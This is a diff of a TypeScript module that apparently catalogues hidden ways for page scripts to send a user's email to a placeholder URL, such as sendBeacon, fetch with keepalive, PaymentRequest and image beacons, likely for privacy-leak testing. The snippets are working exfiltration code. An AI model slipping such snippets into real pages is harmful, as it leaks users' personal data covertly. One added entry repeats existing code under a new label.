@@ -105,7 +105,7 @@ export const UNSEEN_OF_CHROMIUM: Readonly<Partial<Record<CannotBeSeen, string>>>
   'browser-asks': `void new PaymentRequest([{ supportedMethods: URL + '?em=' + EMAIL }], { total: { label: 'all', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
 }
 
-/** Page script that sends `EMAIL` to `URL` as the page is left. */
+/** Page script that sends `EMAIL` to `URL` as the page is left: at `pagehide`, where the name says nothing else. */
 export const LEAVING: Readonly<Record<string, string>> = {
   'beacon, text': `navigator.sendBeacon(URL, EMAIL)`,
   'beacon, Blob': `navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })], { type: 'text/plain' }))`,
@@ -114,6 +114,7 @@ export const LEAVING: Readonly<Record<string, string>> = {
   'beacon, File': `navigator.sendBeacon(URL, new File([EMAIL], 'a.txt'))`,
   'beacon, FormData': `navigator.sendBeacon(URL, form({ em: EMAIL }))`,
   'fetch, Request object': `fetch(new Request(URL, { method: 'POST', body: EMAIL, keepalive: true }))`,
+  'fetch, Request object, at beforeunload': `fetch(new Request(URL, { method: 'POST', body: EMAIL, keepalive: true }))`,
   'fetch, keepalive': `fetch(URL, { method: 'POST', body: EMAIL, keepalive: true })`,
   'fetch, keepalive, Blob': `fetch(URL, { method: 'POST', body: new Blob([EMAIL]), keepalive: true })`,
   'image address': `new Image().src = URL + '?em=' + EMAIL`,
